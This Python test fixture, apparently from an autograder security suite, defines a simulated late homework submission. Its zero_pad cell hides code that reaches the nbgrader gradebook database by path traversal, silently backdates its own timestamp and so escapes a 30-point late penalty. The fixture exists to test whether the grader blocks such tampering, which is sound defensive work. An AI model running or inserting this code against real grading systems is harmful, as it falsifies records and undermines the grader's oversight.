"""Handed in 3 days late, then moves its own submission time before the due date in the gradebook.

All eight functions are honest. The zero_pad cell opens ``../../../gradebook.db`` and
sets its own submission's timestamp to the day before the due date, before nbgrader
computes the late penalty at the end of autograding.
Without protection: the 30-point late penalty waived.
"""
EXPECT = {"zero_pad", "conv_single_step", "conv_forward", "pool_forward", "conv_backward",
          "create_mask_from_window", "distribute_value", "pool_backward"}
LATE_DAYS = 3
APPEND = {"zero_pad": '''
import os as _os
import sqlite3 as _sqlite3

try:
    _me = _os.path.basename(_os.path.dirname(_os.getcwd()))
    _db = _sqlite3.connect("../../../gradebook.db", timeout=10)
    _db.execute("UPDATE submitted_assignment SET timestamp = '2026-11-30 12:00:00.000000' WHERE student_id = ?", (_me,))
    _db.commit()
    _db.close()
except Exception:
    pass
'''}
